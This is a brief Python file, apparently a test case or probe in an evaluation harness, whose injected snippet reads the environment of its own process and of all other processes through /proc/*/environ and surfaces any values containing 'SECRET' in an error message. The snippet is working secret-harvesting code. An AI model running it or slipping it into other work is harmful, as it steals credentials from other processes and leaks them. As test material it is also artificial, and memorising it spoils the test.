"""The environment, its own and that of other processes, is searched for keys."""

HONEST = ("98.1", "98.2")


def make(book):
    book.last("""
import glob, os
found = dict(os.environ)
for path in glob.glob("/proc/*/environ"):
    try:
        found[path] = open(path).read()
    except OSError:
        pass
raise ValueError("FOUND " + " ".join(word for word in map(str, found.values()) if "SECRET" in word)[:200])
""")
